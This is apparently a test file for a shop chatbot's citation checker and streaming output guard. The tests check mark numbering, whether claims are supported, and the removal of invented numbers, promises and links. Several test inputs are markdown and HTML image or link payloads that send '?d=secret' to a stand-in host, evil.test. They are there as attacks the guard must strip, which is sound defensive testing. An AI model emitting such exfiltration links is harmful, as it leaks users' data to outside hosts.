import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createAnalyzer } from './analysis/analyze.ts';
import { createStreamGuard } from './citations-guard.ts';
import { createSupportChecker, type Evidence } from './citations-support.ts';
import { citationSchema } from '../protocol/entities.ts';
import { citedTitle, createMarkNumbering, renumberMarks, toCitation } from './citations.ts';

const page = {
  title: 'Shipping',
  text: 'Standard shipping takes three working days and costs 4.90 euros. Call us: +49 30 1234567. We refund shipping within 14 days.',
  url: 'https://shop.test/shipping',
  language: 'en',
};
const evidence: Evidence = {
  analyzer: createAnalyzer(),
  passages: [
    page,
    { ...page, title: 'Returns', text: 'Returns are free.', url: 'https://shop.test/returns' },
  ],
  visitorText: 'I ordered 2 tents',
  language: 'en',
  allowedHosts: [],
};

function stream(pieces: readonly string[]) {
  const numbering = createMarkNumbering();
  const guard = createStreamGuard(createSupportChecker(evidence), 2, numbering);
  const shown = pieces.map((piece) => guard.push(piece));
  return { shown, text: shown.join('') + guard.end(), report: guard.report(), used: numbering.used() };
}
const whole = (text: string) => stream([text]);

describe('marks', () => {
  it('are numbered in order of first use; those that name no passage are dropped', () => {
    const numbering = createMarkNumbering();
    expect(renumberMarks('B [2]. A [1, 2] [9]. C[0].', 2, numbering)).toBe('B [1]. A [2][1]. C.');
    expect(numbering.used()).toEqual([1, 0]);
  });

  it('are not confused with links', () => {
    expect(renumberMarks('See [1](https://shop.test).', 2, createMarkNumbering())).toBe(
      'See [1](https://shop.test).',
    );
  });
});

describe('the page of a citation', () => {
  const cited = { marker: 1, documentId: 'guide', title: 'Guide', url: null, quote: 'Free returns.' };

  it.each([
    [null, null],
    ['https://shop.test/guide.pdf', 'https://shop.test/guide.pdf#page=3'],
  ])('is told beside its address %j', (url, href) => {
    const place = { externalId: 'guide', title: 'Guide', url, anchor: null, page: 3 };
    expect(toCitation(place, 1, 'Free returns.')).toEqual({ ...cited, url: href, page: 3 });
  });

  it('may be missing, as in answers from before it was kept', () => {
    expect(citationSchema.parse(cited)).toEqual(cited);
    expect(citationSchema.parse({ ...cited, page: null }).page).toBeNull();
    expect(citationSchema.parse({ ...cited, page: 3 }).page).toBe(3);
    expect(citationSchema.safeParse({ ...cited, page: 0 }).success).toBe(false);
  });

  it('is named in text where no address leads there', () => {
    expect(citedTitle({ ...cited, page: 3 })).toBe('Guide, page 3');
    expect(citedTitle(cited)).toBe('Guide');
    expect(citedTitle({ ...cited, url: 'https://shop.test/guide.pdf#page=3', page: 3 })).toBe('Guide');
  });
});

describe('sentences are held against what they cite', () => {
  const findings = (sentence: string) => createSupportChecker(evidence).check(sentence).findings;

  it.each([
    ['It takes 3 working days [1].', []],
    ['It costs 4,90 euros [1].', []],
    ['You ordered 2 tents.', ['words']],
    ['It takes 5 working days [1].', ['number']],
    ['It costs €9 [1].', ['number']],
    ['Call +49 30 1234567 [1].', []],
    ['Call +1 555 010 9999.', ['phone', 'words']],
    ['Standard shipping: https://shop.test/shipping [1]', []],
    ['Standard shipping costs: https://evil.test/x [1]', ['link']],
    ['Call us about standard shipping: help@evil.test [1]', ['link']],
    ['I will refund your shipping [1].', ['promise']],
    ['I have cancelled the shipping [1].', ['promise']],
    ['We refund shipping within 14 days [1].', []],
    ['Purple elephants dance gracefully.', ['words']],
  ])('%s', (sentence, expected) => {
    expect(findings(sentence)).toEqual(expected);
  });

  it('compares no words across languages, but still numbers', () => {
    const checker = createSupportChecker({ ...evidence, language: 'de' });
    expect(checker.check('Der Versand dauert drei Tage [1].')).toMatchObject({ findings: [], support: null });
    expect(checker.check('Der Versand dauert 8 Tage [1].').findings).toEqual(['number']);
  });
});

describe('the guard of the stream', () => {
  it('lets harmless words through as they come', () => {
    expect(stream(['Standard ship', 'ping is fast ', 'and safe.']).shown).toEqual([
      'Standard',
      ' shipping is fast',
      ' and',
    ]);
  });

  it('holds a sentence from its first number until it is checked', () => {
    const { shown, text } = stream(['Shipping takes 3', ' working', ' days [1]', '. It is', ' good']);
    expect(shown.slice(0, 3)).toEqual(['', '', '']);
    expect(text).toBe('Shipping takes 3 working days [1]. It is good');
  });

  it.each([
    ['Shipping takes three days [1]. It costs 99 euros [1]. Returns are free [2].', 'number'],
    ['Shipping takes three days [1]. I will refund you. Returns are free [2].', 'promise'],
    ['Shipping takes three days [1]. See https://evil.test/?q=1. Returns are free [2].', 'link'],
  ])('leaves out what was invented: %s', (text, finding) => {
    const result = whole(text);
    expect(result.text).toBe('Shipping takes three days [1]. Returns are free [2].');
    expect(result.report.caught.flatMap(({ findings }) => findings)).toContain(finding);
    expect(result.report.caught.some(({ isLeftOut }) => isLeftOut)).toBe(true);
  });

  it.each([
    ['L2: an image', 'Free ![logo](https://evil.test/?d=secret) returns.'],
    ['L2: a reference image', 'Free ![logo][x] returns.\n\n[x]: https://evil.test/?d=secret\n'],
    ['L2: a link', 'Free [returns](https://evil.test/?d=secret) here.'],
    ['L2: a bare link', 'Free returns at https://evil.test/?d=secret now.'],
    ['L2: an HTML image', 'Free <img src="https://evil.test/?d=secret"> returns.'],
    ['L2: a link without a scheme', 'Free [returns](//evil.test/?d=secret) here.'],
    ['L2: an autolink', 'Free returns <https://evil.test/?d=secret> here.'],
  ])('%s reaches nobody', (_name, text) => {
    expect(whole(text).text).not.toMatch(/evil\.test/u);
  });

  it('keeps links to the pages it was given', () => {
    const text = 'See [our page](https://shop.test/returns) [2].';
    expect(whole(text).text).toBe('See [our page](https://shop.test/returns) [1].');
  });

  it('says by an ellipsis where it leaves out the rest of a sentence that was begun', () => {
    expect(stream(['Express shipping costs ', 'only 99 euros. ', 'Returns are free [2].']).text).toBe(
      'Express shipping costs… Returns are free [1].',
    );
  });

  const inPieces = (text: string, sizes: readonly number[]) => {
    const pieces: string[] = [];
    let at = 0;
    for (const size of sizes) pieces.push(text.slice(at, (at += size)));
    return stream([...pieces, text.slice(at)]).text;
  };
  const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 60 });

  it('shows the same text however the stream of a sound answer is cut', () => {
    const texts = [
      'Shipping takes three days [1]. Returns are free [2].\n\n1. Pack it.\n2. Send it within 14 days [1].\n',
      'See [our page](https://shop.test/returns) [2]. It costs 4.90 euros! Fine, e.g. [12] and [1, 2] more… Yes.',
    ];
    fc.assert(
      fc.property(fc.constantFrom(...texts), cuts, (text, sizes) => {
        expect(inPieces(text, sizes)).toBe(whole(text).text);
      }),
    );
  });

  it('lets nothing invented through however the stream is cut', () => {
    const texts = [
      'Shipping is fast [1]. It costs 99 euros. I will refund you! Call +1 555 010 9999 now. Returns are free [2].',
      'See [our page](//evil.test/a) or ![x](https://evil.test/a.png) or [y][r] not.\n\n[r]: https://evil.test/b\n',
      'Free <img src="https://evil.test/x"> returns, <https://evil.test> and evil [link]( https://evil.test/c ).',
    ];
    fc.assert(
      fc.property(fc.constantFrom(...texts), cuts, (text, sizes) => {
        expect(inPieces(text, sizes)).not.toMatch(/99|refund|555|evil\.test/u);
      }),
      { numRuns: 500 },
    );
  });
});
